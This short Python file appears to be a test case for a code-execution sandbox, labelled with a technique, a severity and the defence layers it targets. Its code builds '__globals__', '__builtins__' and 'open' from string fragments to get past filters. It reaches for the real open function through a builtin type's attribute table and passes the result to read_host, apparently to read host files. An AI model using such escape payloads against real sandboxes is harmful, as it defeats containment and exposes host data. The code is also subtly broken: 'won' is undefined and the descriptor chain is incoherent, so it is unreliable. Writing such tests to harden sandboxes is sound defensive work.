# technique: an attribute getter reads the table of a builtin type
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json

key = "__glo" + "bals__"

def by_table(table):
    """The real open, by the descriptors that the table of functions holds."""
    return table[key].__get__(json.dumps)["__built" + "ins__"]["op" + "en"]

def trick():
    import operator
    return by_table(operator.attrgetter("__dict__")(type(won)))

read_host(trick)
